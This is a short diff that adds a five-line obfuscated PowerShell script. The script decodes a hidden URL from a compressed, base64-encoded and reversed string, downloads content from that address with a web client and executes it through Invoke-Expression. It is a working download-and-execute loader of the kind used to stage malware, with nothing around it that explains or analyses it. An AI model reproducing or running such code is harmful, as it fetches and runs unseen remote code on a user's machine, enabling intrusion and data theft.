@@ -1,0 +1,5 @@
+[net.ServIcepoiNTMAnaGeR]::seCURitypRoTocOl = [nET.SeCUrityprOToCOlTYPe]::tLs12
+$url = (-jOIN ((new-OBjECt iO.STREamReadeR((neW-OBJect IO.cOMpreSsIOn.dEflAtestREAm([io.memorYStREam][convErT]::FroMBAse64sTRInG('Mywu0DNOLivWLylOLdEryi8qyszVLU7NyUzT17cqKCnJAAA='), [IO.cOmPRessIon.cOMpreSsiOnmODe]::deComPRESS)), [texT.enCOdINg]::Utf8)).ReadtoeNd())[-1..-33])
+$client = NeW-obJEct NeT.wEbCLiENt
+$payload = $client.dOWNLoaDSTRiNg($url)
+INvoKe-EXpResSioN $payload
